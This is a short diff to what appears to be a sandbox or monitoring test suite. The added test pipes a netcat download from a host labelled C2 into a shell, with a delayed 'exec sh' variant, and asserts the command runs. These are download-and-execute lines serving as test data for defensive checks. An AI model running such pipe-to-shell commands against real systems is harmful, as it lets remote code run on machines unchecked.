@@ -429,6 +429,9 @@ print(p.stdout.decode())
             # (the connection stays open for a few samples). Then an interpreter reading a download.
             r = sb.exec(f"timeout 1.5 nc --recv-only {C2} 4444 | sh", timeout=20, text=True)
             assert not r.terminated and r.stdout == "ran\n", r
+            # The same with the download connected before the shell's exec.
+            r = sb.exec(f"timeout 1.5 nc --recv-only {C2} 4444 | (sleep 0.5; exec sh)", timeout=20, text=True)
+            assert not r.terminated and r.stdout == "ran\n", r
             r = sb.exec(
                 f"timeout 1.5 nc --recv-only {C2} 4444 | python3 -c 'import sys; print(sys.stdin.read())'"
             )
